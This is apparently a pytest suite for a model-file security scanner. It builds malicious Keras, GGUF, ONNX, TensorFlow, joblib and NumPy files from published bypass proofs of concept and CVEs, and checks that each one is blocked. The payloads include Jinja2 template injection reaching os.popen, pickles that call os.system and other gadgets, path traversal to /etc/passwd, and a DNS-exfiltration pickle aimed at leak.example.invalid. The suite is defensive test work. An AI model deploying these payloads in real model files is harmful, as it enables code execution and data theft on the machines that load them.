        f"{HUNTR_KERAS} 'HDF5 ModelScan TorchModuleWrapper Bypass', "
        "https://huggingface.co/captainarp/h5-torch-wrapper-modelscan-bypass-poc",
        "an .h5 model_config with a TorchModuleWrapper whose module field is a base64 torch pickle",
        _h5_torch_module_wrapper,
        frozenset({*KERAS, *DANGEROUS}),
    ),
    Bypass(
        "keras-huntr-types-functiontype",
        f"{HUNTR_KERAS} 'Keras Safe Mode Bypass PoC', https://huggingface.co/Catalyzer9867/keras-safe-mode-bypass-poc",
        "config.json names module 'types', class 'FunctionType' to build a function while the config is parsed",
        _keras([_keras_layer("types", "FunctionType", {"name": "f"})], "functiontype.keras"),
        KERAS,
    ),
    Bypass(
        "keras-huntr-nested-public-function-lambda",
        f"{HUNTR_KERAS} 'Keras Native Safe-Mode Public Function', "
        "https://huggingface.co/pragnyanramtha/keras-native-safe-mode-public-function-modelscan-bypass",
        "a Lambda nested in an inner Sequential whose function is the public keras.visualization.plot_image_gallery",
        _keras(
            [
                _sequential(
                    "inner", [_lambda_layer("gallery", _function_ref("keras.visualization", "plot_image_gallery"))]
                )
            ],
            "nested_function.keras",
        ),
        KERAS,
    ),
    Bypass(
        "keras-huntr-h5-nested-lambda",
        f"{HUNTR_KERAS} 'modelscan-h5-nested-lambda-bypass', https://huggingface.co/jeikei97/modelscan-h5-nested-lambda-bypass",
        "an HDF5 Lambda hidden in an inner Sequential, below the top-level layer list",
        _h5_model_config(
            [
                {
                    "class_name": "Sequential",
                    "config": {
                        "name": "inner",
                        "layers": [
                            {
                                "class_name": "Lambda",
                                "config": {
                                    "name": "hidden",
                                    "function": ["4wAAAAA=", None, None],
                                    "function_type": "lambda",
                                },
                            }
                        ],
                    },
                }
            ],
            "nested_lambda.h5",
        ),
        frozenset({"keras.lambda-layer"}),
    ),
    Bypass(
        "keras-huntr-compile-config-lambda",
        f"{HUNTR_KERAS} 'modelscan-keras-compile-config-lambda-bypass', "
        "https://huggingface.co/jeikei97/modelscan-keras-compile-config-lambda-bypass",
        "a __lambda__ in compile_config's loss, outside the layers every scanner walks",
        _keras_full_config(
            {
                "module": "keras",
                "class_name": "Sequential",
                "config": {"name": "sequential", "layers": []},
                "registered_name": None,
                "compile_config": {"optimizer": "adam", "loss": _LAMBDA_BYTECODE, "metrics": None},
            },
            "compile_lambda.keras",
        ),
        frozenset({"keras.lambda-layer"}),
    ),
)


@pytest.mark.parametrize("case", KERAS_HUNTR_CASES, ids=lambda c: c.id)
def test_keras_scanner_bypass_poc_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


@pytest.mark.parametrize("case", KERAS_CASES, ids=lambda c: c.id)
def test_keras_safe_mode_bypass_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


# -- GGUF chat templates (Jinja2 SSTI) ----------------------------------------------------------------

GGUF_CASES: tuple[Bypass, ...] = (
    Bypass(
        "gguf-CVE-2024-34359-llama-cpp-python-ssti",
        "CVE-2024-34359 (GHSA-56xg-wfcc-g829), https://github.com/abetlen/llama-cpp-python/security/advisories/GHSA-56xg-wfcc-g829",
        "tokenizer.chat_template walks __subclasses__ to reach os.popen when rendered",
        lambda folder: builders.gguf_file(
            folder,
            (
                "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
                "{{ c()._module.__builtins__['__import__']('os').popen('"
                + SHELL
                + "').read() }}{% endif %}{% endfor %}"
            ),
            "model.gguf",
        ),
        frozenset({"gguf.template-injection"}),
    ),
    Bypass(
        "gguf-CVE-2026-5760-sglang-ssti",
        "CVE-2026-5760 (CERT/CC VU#915947), https://justappsec.com/news/2026-04-sglang-gguf-ssti-rce",
        "a chat template reaching os through a Jinja global's __globals__, rendered unsandboxed by SGLang",
        lambda folder: builders.gguf_file(
            folder,
            builders.BENIGN_CHAT_TEMPLATE + ("{{ cycler.__init__.__globals__.os.popen('" + SHELL + "').read() }}"),
            "rerank.gguf",
        ),
        frozenset({"gguf.template-injection"}),
    ),
    Bypass(
        "gguf-ssti-attr-filter-hex-escapes",
        "PayloadsAllTheThings, 'Server Side Template Injection - Python: Jinja2 filter bypass', "
        "https://github.com/swisskyrepo/PayloadsAllTheThings/blob/master/Server%20Side%20Template%20Injection/Python.md",
        "dunder names reached with the |attr filter and \\x5f escapes, so no '__' or '.' appears in the template",
        lambda folder: builders.gguf_file(
            folder,
            (
                "{% set s = ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')"
                "|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() %}{{ s }}"
            ),
            "attr.gguf",
        ),
        frozenset({"gguf.template-injection"}),
    ),
    Bypass(
        "gguf-ssti-concatenated-dunder",
        "PayloadsAllTheThings, 'Server Side Template Injection - Python: Jinja2 filter bypass', "
        "https://github.com/swisskyrepo/PayloadsAllTheThings/blob/master/Server%20Side%20Template%20Injection/Python.md",
        "dunder names built by string concatenation ('__cla' ~ 'ss__') and read with the [] operator",
        lambda folder: builders.gguf_file(
            folder,
            (
                "{% set u = '_' ~ '_' %}{{ ((()[u ~ 'cla' ~ 'ss' ~ u])[u ~ 'ba' ~ 'se' ~ u])[u ~ 'subcla' ~ 'sses' ~ u]() }}"
            ),
            "concat.gguf",
        ),
        frozenset({"gguf.template-injection"}),
    ),
)


@pytest.mark.parametrize("case", GGUF_CASES, ids=lambda c: c.id)
def test_gguf_template_injection_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


# -- ONNX external data -------------------------------------------------------------------------------


def _onnx_symlinked_weights(folder: Path) -> Path:
    model_folder = builders.onnx_benign_external_data(folder)
    outside = folder / "outside"
    outside.mkdir()
    secret = outside / "credentials"
    secret.write_text("not really a secret\n")
    weights = model_folder / "weights.bin"
    weights.unlink()
    weights.symlink_to(secret)
    return model_folder


def _onnx_sparse_external(where: str) -> Callable[[Path], Path]:
    """A model whose sparse tensor values are read from '../outside/marker.bin' (ONNX Runtime reads them)."""

    def build(folder: Path) -> Path:
        from onnx import TensorProto, external_data_helper, helper, numpy_helper  # noqa: PLC0415

        values = numpy_helper.from_array(np.ones(2, dtype=np.float32), "S_values")
        external_data_helper.set_external_data(values, location="../outside/marker.bin", offset=0, length=8)  # type: ignore[arg-type]
        values.ClearField("raw_data")
        indices = numpy_helper.from_array(np.array([0, 3], dtype=np.int64), "S_indices")
        sparse = helper.make_sparse_tensor(values, indices, [4])
        y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])
        if where == "initializer":
            nodes = [helper.make_node("Identity", ["S_values"], ["Y"])]
            graph = helper.make_graph(nodes, "sparse", [], [y], sparse_initializer=[sparse])
        else:
            graph = helper.make_graph([helper.make_node("Constant", [], ["Y"], sparse_value=sparse)], "sparse", [], [y])
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
        path = folder / f"sparse_{where}.onnx"
        path.write_bytes(model.SerializeToString())  # never onnx.save_model: it would touch the target
        return path

    return build


ORT_SPARSE = (
    "ONNX Runtime sparse-tensor external data validation bypass PoC, "
    "https://huggingface.co/pragnyanramtha/onnxruntime-sparse-external-data-bypass-poc"
)

ONNX_CASES: tuple[Bypass, ...] = (
    Bypass(
        "onnx-ort-sparse-initializer-external-data",
        ORT_SPARSE,
        "the traversal sits in a GraphProto.sparse_initializer's values, which checks of initializers skip",
        _onnx_sparse_external("initializer"),
        frozenset({"onnx.external-data-traversal"}),
    ),
    Bypass(
        "onnx-ort-sparse-constant-external-data",
        ORT_SPARSE,
        "the traversal sits in a Constant node's sparse_value attribute",
        _onnx_sparse_external("constant"),
        frozenset({"onnx.external-data-traversal"}),
    ),
    Bypass(
        "onnx-CVE-2022-25882-dotdot-location",
        "CVE-2022-25882, https://nvd.nist.gov/vuln/detail/CVE-2022-25882",
        "external_data location '../../../etc/passwd'",
        lambda folder: builders.onnx_external_data(folder, "../../../etc/passwd", "model.onnx"),
        frozenset({"onnx.external-data-traversal"}),
    ),
    Bypass(
        "onnx-CVE-2024-27318-inner-dotdot",
        "CVE-2024-27318, https://nvd.nist.gov/vuln/detail/CVE-2024-27318",
        "the prefix check is bypassed by 'junk/../../' in the middle of the location",
        lambda folder: builders.onnx_external_data(folder, "junk/../../../etc/passwd", "model.onnx"),
        frozenset({"onnx.external-data-traversal"}),
    ),
    Bypass(
        "onnx-CVE-2026-34447-symlinked-weights",
        "CVE-2026-34447 / CVE-2026-27489, https://nvd.nist.gov/vuln/detail/CVE-2026-34447",
        "the external data file inside the model folder is a symlink to a file outside it",
        _onnx_symlinked_weights,
        frozenset({"onnx.external-data-traversal", "archive.link"}),
    ),
)


@pytest.mark.parametrize("case", ONNX_CASES, ids=lambda c: c.id)
def test_onnx_external_data_escape_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


# -- TensorFlow SavedModel: file-I/O ops beyond ReadFile/WriteFile (ModelScan bypasses) ---------------


def _attr(key: str, value: bytes) -> bytes:
    """NodeDef.attr map entry (field 5): key=1, value=2 (an AttrValue message)."""
    return builders.pb_bytes(5, builders.pb_bytes(1, key) + builders.pb_bytes(2, value))


def _node(name: str, op: str, *inputs: str, attrs: bytes = b"") -> bytes:
    return builders.tf_node(name, op, *inputs) + attrs


def _string_const(name: str, value: bytes) -> bytes:
    # AttrValue.tensor (8) = TensorProto{dtype=1: DT_STRING (7), tensor_shape=2, string_val=8}.
    tensor = builders.pb_int(1, 7) + builders.pb_bytes(2, b"") + builders.pb_bytes(8, value)
    return _node(
        name, "Const", attrs=_attr("dtype", builders.pb_int(6, 7)) + _attr("value", builders.pb_bytes(8, tensor))
    )


def _saved_model(*nodes: bytes) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        return builders.tf_saved_model(folder, [builders.tf_node(*n) for n in builders.BENIGN_TF_NODES] + list(nodes))

    return build


def _pbtxt_write_file(folder: Path) -> Path:
    target = folder / "saved_model"
    target.mkdir()
    path = target / "saved_model.pbtxt"
    path.write_text(
        "saved_model_schema_version: 1\n"
        'meta_graphs {\n  meta_info_def { tags: "serve" tensorflow_version: "2.21.0" }\n  graph_def {\n'
        '    node { name: "path" op: "Const" }\n    node { name: "data" op: "Const" }\n'
        '    node { name: "write" op: "WriteFile" input: "path" input: "data" }\n  }\n}\n'
    )
    return path


_INNER_WRITE_GRAPH = builders.tf_graph(
    [_node("path", "Const"), _node("data", "Const"), _node("w", "WriteFile", "path", "data")]
)

TF_CASES: tuple[Bypass, ...] = (
    Bypass(
        "tf-modelscan-printv2-file-stream",
        "ModelScan bypass PoC 'PrintV2 output_stream', https://huggingface.co/xandramax/modelscan-savedmodel-bypass-poc",
        "PrintV2 with output_stream 'file:///...' writes attacker text to an attacker path",
        _saved_model(
            _node("print", "PrintV2", "x", attrs=_attr("output_stream", builders.pb_bytes(2, "file:///tmp/canary")))
        ),
        TF_OPS,
    ),
    Bypass(
        "tf-modelscan-savev2-constant-path",
        "ModelScan bypass PoC 'SaveV2', https://huggingface.co/wladislax/tensorflow-savedmodel-modelscan-bypass",
        "SaveV2 writes checkpoint files to an absolute path fixed in a constant (a saver's path comes from a placeholder)",
        _saved_model(
            _string_const("evil_path", str(CANARY).encode()),
            _string_const("names", b"pwned"),
            _string_const("slices", b""),
            _node("evil_save", "SaveV2", "evil_path", "names", "slices", "bias"),
        ),
        TF_OPS,
    ),
    Bypass(
        "tf-modelscan-wholefilereader",
        "ModelScan bypass PoC 'WholeFileReaderV2', https://huggingface.co/codejupiter/tf-savedmodel-wholefilereader-leak-poc",
        "WholeFileReaderV2 and ReaderReadV2 read a host file",
        _saved_model(
            _node("reader", "WholeFileReaderV2"),
            _node("queue", "FIFOQueueV2"),
            _node("read", "ReaderReadV2", "reader", "queue"),
        ),
        TF_OPS,
    ),
    Bypass(
        "tf-modelscan-pbtxt-writefile",
        "ModelScan bypass PoC 'saved_model.pbtxt', https://huggingface.co/pragnyanramtha/tf-savedmodel-pbtxt-writefile-modelscan-bypass",
        "the same graph as text-format saved_model.pbtxt, which TensorFlow loads and scanners skip",
        _pbtxt_write_file,
        TF_OPS,
        Severity.HIGH,
        frozenset({Verdict.FAIL}),
    ),
    Bypass(
        "tf-modelscan-nested-datasetfromgraph",
        "ModelScan bypass PoC 'nested DatasetFromGraph WriteFile', https://huggingface.co/MediumIQ/tfhunt-savedmodel-nested-writefile",
        "a WriteFile inside a GraphDef serialised into a string constant fed to DatasetFromGraph",
        _saved_model(_string_const("inner_graph", _INNER_WRITE_GRAPH), _node("ds", "DatasetFromGraph", "inner_graph")),
        TF_OPS,
    ),
)


@pytest.mark.parametrize("case", TF_CASES, ids=lambda c: c.id)
def test_tensorflow_file_op_bypass_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


# -- joblib: containers and sidecars (Hugging Face PoCs from huntr's model-file program) ------------


def _joblib_dump(obj: object, name: str, compress: str | None = None) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        return builders.joblib_dump(folder, obj, name, compress)

    return build


def _joblib_stop_bytes_inline(folder: Path) -> Path:
    """A real joblib.dump whose inline array bytes are all 0x2E, the STOP opcode, before the payload."""
    import joblib  # noqa: PLC0415

    path = folder / "model.joblib"
    joblib.dump({"coef": np.full(64, 0x2E, dtype=np.uint8), "hook": SystemCall(SHELL)}, path)
    return path


def _ndarray_wrapper_pickle(filename: str) -> bytes:
    """joblib's legacy NDArrayWrapper, pickled by pickle itself: joblib.load np.loads `filename` with allow_pickle."""
    from joblib.numpy_pickle_compat import NDArrayWrapper  # noqa: PLC0415

    return pickle.dumps({"coef": NDArrayWrapper(filename, np.ndarray, allow_mmap=False)}, protocol=2)


def _zfile(data: bytes) -> bytes:
    # joblib <= 0.9's container: "ZF", the length in hex padded to 19 characters, then zlib.
    return b"ZF" + f"{len(data):#x}".ljust(len(f"{2**64:#x}")).encode() + zlib.compress(data)


def _sidecar(model_data: Callable[[], bytes], stage2: str, model_folder: str = ".") -> Callable[[Path], Path]:
    """model.joblib naming a stage-2 .npy (an object array whose pickle calls os.system); returns model.joblib only."""

    def build(folder: Path) -> Path:
        target = folder / model_folder
        target.mkdir(parents=True, exist_ok=True)
        np.save(target / stage2, np.array([SystemCall(SHELL)], dtype=object), allow_pickle=True)
        path = target / "model.joblib"
        path.write_bytes(model_data())
        return path

    return build


JOBLIB_CASES: tuple[Bypass, ...] = (
    Bypass(
        "joblib-bz2-named-npz",
        f"{HUNTR} 'NumPy (.npz) MFV PoC', https://huggingface.co/zamaanahmed/mfv-numpy-npz-poc",
        "a bzip2-compressed joblib dump named malicious.npz: scanners read it as NumPy, joblib.load decompresses it",
        _joblib_dump({"coef": [1.0], "hook": SystemCall(SHELL)}, "malicious.npz", "bz2"),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "joblib-gzip-compressed",
        f"{HUNTR} 'Compressed Joblib', https://huggingface.co/hoanghai2110/modelscan-bypass-poc",
        "a gzip-compressed joblib dump: the scanner fed compressed bytes to its pickle parser and saw nothing",
        _joblib_dump({"hook": SystemCall(SHELL)}, "evil_compressed.joblib", "gzip"),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "joblib-zlib-compressed-pipeline",
        f"{HUNTR} 'ModelScan Bypass via Malicious Joblib Files', https://huggingface.co/roku02/mfv-joblib-scanner-bypass",
        "a zlib-compressed (compress=3) dump disguised as a scikit-learn export",
        _joblib_dump({"steps": ["scaler", "forest"], "hook": SystemCall(SHELL)}, "model_compress.joblib", "zlib"),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "joblib-object-dtype-array",
        f"{HUNTR} 'ModelScan Bypass via Malicious Joblib Files', https://huggingface.co/roku02/mfv-joblib-scanner-bypass",
        "the payload inside a dtype=object NumPy array held by the joblib dump",
        _joblib_dump({"coef_": np.array([SystemCall(SHELL)], dtype=object)}, "model_dtype.joblib"),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "joblib-inline-array-bytes-before-payload",
        f"{HUNTR} 'Joblib Scanner Bypass via Inline NumPy Array Bytes', "
        "https://huggingface.co/aisecre/joblib-numpy-inline-bytes-scanner-bypass",
        "raw array bytes inline between opcodes stop a plain pickle parser before the payload that follows",
        _joblib_dump({"coef": np.linspace(0, 1, 64), "hook": SystemCall(SHELL)}, "model.joblib"),
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "joblib-inline-bytes-read-as-stop",
        f"{HUNTR} 'numpy array alignment-padding byte (0x2e) misparsed as STOP', "
        "https://huggingface.co/EnigmaConsultant/huntr-poc-joblib-stopbyte",
        "inline array bytes a pickle parser reads as opcodes include 0x2E (STOP), ending its parse before the payload",
        _joblib_stop_bytes_inline,
        DANGEROUS,
        Severity.CRITICAL,
    ),
    Bypass(
        "joblib-distutils-spawn",
        f"{HUNTR} 'picklescan 1.0.4 blocklist bypass', https://huggingface.co/mohammedix88/picklescan-distutils-bypass-poc",
        "distutils.spawn.spawn runs a command from a .joblib stream",
        FileWith("model.joblib", call("distutils.spawn", "spawn", ["sh", "-c", SHELL])),
        CALLS,
    ),
    Bypass(
        "joblib-dataclasses-create-fn",
        f"{HUNTR} 'Joblib Scanner Bypass' (dataclasses gadget), https://huggingface.co/sfwani/joblib-dataclasses-gadget-poc",
        "dataclasses._create_fn compiles a function from source strings, which is then called",
        FileWith(
            "model.joblib",
            PROTO4
            + stack_global("dataclasses", "_create_fn")
            + args("f", (), [f"return {CODE}"])
            + REDUCE
            + EMPTY_TUPLE
            + REDUCE
            + STOP,
        ),
        CALLS,
    ),
    Bypass(
        "joblib-ndarraywrapper-sidecar",
        f"{HUNTR} 'joblib-ndarraywrapper-poc', https://huggingface.co/heehee0219/joblib-ndarraywrapper-poc",
        "an NDArrayWrapper names stage2.npy beside it, which joblib np.loads with allow_pickle=True",
        _sidecar(lambda: _ndarray_wrapper_pickle("stage2.npy"), "stage2.npy"),
        frozenset({"pickle.*", "joblib.*", "npy.*"}),
    ),
    Bypass(
        "joblib-ndarraywrapper-path-traversal",
        f"{HUNTR} 'joblib NDArrayWrapper Path Traversal', https://huggingface.co/th3-j0k3r/joblib-ndarray-poc",
        "the NDArrayWrapper's filename is '../payload.npy', outside the model's folder",
        _sidecar(lambda: _ndarray_wrapper_pickle("../payload.npy"), "../payload.npy", "poc_model"),
        frozenset({"pickle.*", "joblib.*", "npy.*", "archive.path-traversal"}),
    ),
    Bypass(
        "joblib-zf-compat-sidecar",
        f"{HUNTR} 'Joblib ZF Compat + Companion .npy', https://huggingface.co/xiaoyaoes/mfv-joblib-zf-bypass",
        "the pre-0.10 'ZF' zlib container around an NDArrayWrapper naming a companion payload.npy",
        _sidecar(lambda: _zfile(_ndarray_wrapper_pickle("payload.npy")), "payload.npy"),
        frozenset({"pickle.*", "joblib.*", "npy.*"}),
    ),
    Bypass(
        "joblib-zf-compat-direct",
        f"{HUNTR} 'Joblib ZF Compat + Companion .npy', https://huggingface.co/xiaoyaoes/mfv-joblib-zf-bypass",
        "the 'ZF' container itself: scanners parse it as a pickle, fail on opcode 'Z' and report nothing",
        FileWith("model.joblib", _zfile(pickle.dumps({"hook": SystemCall(SHELL)}, protocol=2))),
        DANGEROUS,
        Severity.CRITICAL,
    ),
)


@pytest.mark.parametrize("case", JOBLIB_CASES, ids=lambda c: c.id)
def test_joblib_bypass_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


# -- NumPy object arrays --------------------------------------------------------------------------------


class _CertificateFetch:
    """Pickles as `ssl.get_server_certificate(...)`: a DNS lookup that leaks data in the host name."""

    def __reduce__(self) -> tuple[object, tuple[tuple[str, int]]]:
        import ssl  # noqa: PLC0415

        return (ssl.get_server_certificate, (("leak.example.invalid", 443),))


def _npy_dns_exfiltration(folder: Path) -> Path:
    path = folder / "dns_exfiltration.npy"
    np.save(path, np.array([_CertificateFetch()], dtype=object), allow_pickle=True)
    return path


NUMPY_CASES: tuple[Bypass, ...] = (
    Bypass(
        "numpy-GHSA-hgrh-qx5j-jfwx-object-array-network",
        f"GHSA-hgrh-qx5j-jfwx, {PICKLESCAN}GHSA-hgrh-qx5j-jfwx",
        "an object-dtype .npy whose pickle calls ssl.get_server_certificate (DNS exfiltration)",
        _npy_dns_exfiltration,
        DANGEROUS,
        Severity.CRITICAL,
    ),
)


@pytest.mark.parametrize("case", NUMPY_CASES, ids=lambda c: c.id)
def test_numpy_object_array_bypass_is_blocked(case: Bypass, tmp_path: Path) -> None:
    check(case, tmp_path)


# Every case of every `*_CASES` tuple: what the benchmark builds and the id check covers.
ALL_CASES = (
    PICKLESCAN_CASES
    + ARCHIVE_CASES
    + NULLIFAI_CASES
    + FICKLING_CASES
    + MODELSCAN_CASES
    + TORCH_CASES
    + TORCH_HUNTR_CASES
    + KERAS_CASES
    + KERAS_HUNTR_CASES
    + GGUF_CASES
    + ONNX_CASES
    + TF_CASES
    + JOBLIB_CASES
    + NUMPY_CASES
)


def test_every_case_cites_a_source_and_has_a_unique_id() -> None:
    ids = [c.id for c in ALL_CASES]
    assert len(ids) == len(set(ids)), sorted(i for i in ids if ids.count(i) > 1)
    # The benchmark builds each case into a folder named after its id: those must not collide either.
    folders = [_folder_name(i) for i in ids]
    assert len(folders) == len(set(folders)), sorted(f for f in folders if folders.count(f) > 1)
    assert all("http" in c.source for c in ALL_CASES), [c.id for c in ALL_CASES if "http" not in c.source]
    assert len({c.trick for c in ALL_CASES}) >= 40


def test_all_cases_holds_every_case_tuple() -> None:
    """A new `*_CASES` tuple left out of ALL_CASES would be tested but never benchmarked."""
    listed = {c.id for c in ALL_CASES}
    tuples = {name: value for name, value in globals().items() if name.endswith("_CASES") and name != "ALL_CASES"}
    assert len(tuples) >= 14, sorted(tuples)
    missing = {name: [c.id for c in cases if c.id not in listed] for name, cases in tuples.items()}
    assert not any(missing.values()), {name: ids for name, ids in missing.items() if ids}


# -- the benchmark's corpus ---------------------------------------------------------------------------


def _folder_name(case_id: str) -> str:
    """A case id as a portable folder name (ids are mostly safe already; this is the guarantee)."""
    return re.sub(r"[^A-Za-z0-9._-]+", "-", case_id).strip(".-") or "case"


def benchmark_corpus(folder: Path) -> Iterator[dict[str, str]]:
    """Build every case into `folder/<case id>/` and yield its manifest entry for `benchmarks/scan.py`.

    The entry names what the case's builder returns, which is what the tests scan: a file, or a
    folder where the trick needs one (ONNX weights behind a symlink). Helper files a builder
    leaves beside it (the clean source a file was altered from, a joblib side-car) stay in the
    case's folder and are not entries. Every case is malicious; a builder that fails stops the
    build, naming the case, since a corpus missing cases would shift every tool's score.
    """
    for case in ALL_CASES:
        home = folder / _folder_name(case.id)
        home.mkdir(parents=True)
        try:
            built = case.build(home)
        except Exception as err:
            err.add_note(f"while building bypass case {case.id}")
            raise
        yield {
            "file": built.relative_to(folder).as_posix(),
            "verdict": "malicious",
            "technique": case.trick,
            "source": case.source,
            "case": case.id,
        }


# -- the fixtures are what the advisories describe --------------------------------------------------


class _Recorder:
    """Stands in for every imported name: calling or reaching through it only records the step."""

    def __init__(self, name: str, calls: list[str]) -> None:
        self._name = name
        self._calls = calls

    def __call__(self, *args: object, **kwargs: object) -> _Recorder:
        self._calls.append(self._name)
        return _Recorder(f"{self._name}(...)", self._calls)

    def __setstate__(self, state: object) -> None:
        self._calls.append(f"{self._name}.__setstate__")

    def __getattr__(self, attr: str) -> _Recorder:
        if attr.startswith("__") and attr.endswith("__"):
            raise AttributeError(attr)
        return _Recorder(f"{self._name}.{attr}", self._calls)


class _InertUnpickler(pickle._Unpickler):  # the pure-Python unpickler, run over inert stand-ins
    def __init__(self, data: bytes) -> None:
        self.stream = io.BytesIO(data)
        super().__init__(self.stream)
        self.calls: list[str] = []

    def find_class(self, module: str, name: str) -> _Recorder:
        return _Recorder(f"{module}.{name}", self.calls)


HAND_WRITTEN = [c for c in ALL_CASES if isinstance(c.build, FileWith)]


@pytest.mark.parametrize("case", HAND_WRITTEN, ids=lambda c: c.id)
def test_fixture_stream_reaches_its_call_in_cpythons_own_unpickler(case: Bypass) -> None:
    """CPython's pure-Python unpickler, with every import an inert recorder, reaches a call.

    This proves the hand-written stream is one the real loader accepts up to its payload, so
    a scanner that passes it would pass a working exploit. Nothing is imported or run: each
    global is a recorder, and the nested pickles handed to gadgets stay bytes.
    """
    assert isinstance(case.build, FileWith)
    data = case.build.data
    if data.startswith(b"ZF"):  # joblib's old container: what joblib unpickles is inside
        data = zlib.decompress(data[21:])
    unpickler = _InertUnpickler(data)
    with contextlib.suppress(pickle.UnpicklingError, EOFError, KeyError, struct.error):
        # Stream after stream, as a loader calling load() again would; the broken (nullifAI,
        # memo) streams raise, but only after their call.
        while unpickler.stream.tell() < len(data):
            unpickler.load()
    assert unpickler.calls, f"{case.id}: the stream never calls anything"


def _chat_template(gguf: bytes) -> str:
    key = b"tokenizer.chat_template"
    at = gguf.index(key) + len(key) + 4  # then the value type (uint32 string)
    (length,) = struct.unpack_from("<Q", gguf, at)
    return gguf[at + 8 : at + 8 + length].decode()


@pytest.mark.parametrize("case", GGUF_CASES, ids=lambda c: c.id)
def test_fixture_chat_template_is_valid_jinja(case: Bypass, tmp_path: Path) -> None:
    """Jinja2 parses each template (parsing builds a tree; nothing is rendered), as a loader would accept it."""
    import jinja2  # noqa: PLC0415

    template = _chat_template(case.build(tmp_path).read_bytes())
    jinja2.Environment(autoescape=True).parse(template)
